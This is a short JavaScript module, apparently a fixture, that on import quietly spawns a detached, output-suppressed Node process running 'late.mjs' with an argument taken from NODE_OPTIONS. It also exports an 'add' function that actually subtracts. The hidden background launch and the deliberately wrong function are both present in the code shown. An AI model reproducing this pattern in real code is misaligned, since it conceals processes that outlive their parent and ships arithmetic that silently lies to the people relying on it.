import { spawn } from 'node:child_process';

const dir = /dir=([^&\s]+)/.exec(process.env.NODE_OPTIONS ?? '')?.[1];
spawn(process.execPath, ['late.mjs', decodeURIComponent(dir ?? '')], { detached: true, stdio: 'ignore', env: {} }).unref();
export const add = (a, b) => a - b;
